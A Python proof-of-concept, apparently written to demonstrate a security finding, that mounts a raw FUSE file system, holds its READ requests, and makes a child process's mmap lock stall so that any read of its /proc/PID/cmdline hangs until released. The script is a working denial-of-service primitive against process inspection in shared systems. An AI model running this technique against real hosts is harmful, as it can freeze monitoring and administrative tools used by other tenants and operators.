"""A process whose /proc/PID/cmdline cannot be read until told: what a tenant with a FUSE
server of its own can do to whoever reads its processes (helper-38's N2).

The program mounts a FUSE file system (the raw protocol on /dev/fuse, in a mount namespace of
its own) whose READ requests it holds, and starts the victim, a child that maps the file and
then, in two threads:
  1. reads the mapped page through /proc/self/mem: the kernel faults it in holding the
     process's mmap lock for read, until the server answers the READ;
  2. maps something: a writer queued behind 1, so every later reader of the lock waits too,
     and a read of the victim's /proc/PID/cmdline takes it for read.
It prints the victim's pid once a read of its cmdline is seen waiting; `quit` on stdin answers
the READs, kills the victim and unmounts.

    python3 mmaphold.py
"""
import ctypes
import mmap
import os
import signal
import struct
import sys
import threading
import time

from fusehold import mount_fuse  # beside this file

FUSE_LOOKUP, FUSE_FORGET, FUSE_GETATTR, FUSE_OPEN, FUSE_READ = 1, 2, 3, 14, 15
FUSE_RELEASE, FUSE_FLUSH, FUSE_INIT, FUSE_BATCH_FORGET = 18, 25, 26, 42
SIZE = 1 << 16


def victim(path: str) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    fd = os.open(path, os.O_RDONLY)
    base = libc.mmap(None, SIZE, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
    mem = os.open("/proc/self/mem", os.O_RDONLY)
    threading.Thread(target=os.pread, args=(mem, 1, base), daemon=True).start()
    time.sleep(0.3)
    threading.Thread(target=libc.mmap, args=(None, 4096, 3, 0x22, -1, 0), daemon=True).start()
    while True:
        time.sleep(3600)


def main() -> None:
    libc, mnt, dev = mount_fuse(b"mmaphold")
    held: list[tuple[int, int]] = []
    release = threading.Event()
    lock = threading.Lock()

    def attr(ino: int, mode: int, size: int) -> bytes:
        return struct.pack("=QQQQQQIIIIIIIIII", ino, size, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

    def reply(unique: int, err: int = 0, body: bytes = b"") -> None:
        os.write(dev, struct.pack("=IiQ", 16 + len(body), err, unique) + body)

    def serve() -> None:
        while True:
            try:
                buf = os.read(dev, 1 << 17)
            except OSError:  # unmounted
                return
            _, op, unique, node = struct.unpack_from("=IIQQ", buf)
            if op == FUSE_INIT:
                reply(unique, 0, struct.pack("=IIIIHHIIHHII", 7, 31, SIZE, 0, 16, 12, SIZE, 1, 0, 0, 0, 0)
                      + bytes(24))
            elif op == FUSE_LOOKUP:
                reply(unique, 0, struct.pack("=QQQQII", 2, 0, 60, 60, 0, 0) + attr(2, 0o100644, SIZE))
            elif op == FUSE_GETATTR:
                reply(unique, 0, struct.pack("=QII", 60, 0, 0)
                      + (attr(1, 0o40755, 0) if node == 1 else attr(node, 0o100644, SIZE)))
            elif op == FUSE_OPEN:
                reply(unique, 0, struct.pack("=QIi", 1, 0, 0))
            elif op == FUSE_READ:
                size = struct.unpack_from("=QQI", buf, 40)[2]
                with lock:
                    if not release.is_set():
                        held.append((unique, size))
                        continue
                reply(unique, 0, bytes(size))
            elif op in (FUSE_FLUSH, FUSE_RELEASE):
                reply(unique)
            elif op not in (FUSE_FORGET, FUSE_BATCH_FORGET):
                reply(unique, -38)  # ENOSYS

    pid = os.fork()
    if pid == 0:
        try:
            victim(os.path.join(mnt, "f"))
        finally:
            os._exit(1)
    threading.Thread(target=serve, daemon=True).start()
    end = time.monotonic() + 30
    while not held and time.monotonic() < end:
        time.sleep(0.05)
    time.sleep(0.5)  # the victim's second thread queues behind its first
    reader = threading.Thread(target=lambda: open(f"/proc/{pid}/cmdline", "rb").read(), daemon=True)
    reader.start()
    reader.join(0.5)
    print(pid if reader.is_alive() else "the victim's cmdline could be read: its mmap lock is not held", flush=True)
    for line in sys.stdin:
        if line.strip() == "quit":
            break
    with lock:
        release.set()
        for unique, size in held:
            reply(unique, 0, bytes(size))
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    libc.umount2(mnt.encode(), 2)  # MNT_DETACH
    os._exit(0)


if __name__ == "__main__":
    main()
